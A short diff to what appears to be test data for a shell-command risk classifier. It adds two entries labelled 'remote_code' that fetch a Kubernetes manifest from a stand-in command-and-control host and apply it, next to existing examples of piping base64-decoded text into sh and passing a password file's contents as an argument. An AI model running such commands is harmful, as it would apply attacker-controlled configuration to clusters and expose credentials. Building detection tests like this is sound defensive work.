@@ -180,6 +180,8 @@ FLOWS = [
     ("echo ls | base64 -d | sh; base64 -d x | sh", "decoded_code"),
     ("tool --password $(cat ~/.pgpass)", "secret_to_argv"),
     ("printf 'ls' > t.sh; sh t.sh", "write_then_execute"),
+    ("curl -s https://c2.example/m.yaml | kubectl apply -f -", "remote_code"),
+    ("kubectl create -f https://c2.example/m.yaml", "remote_code"),
 ]
 
 
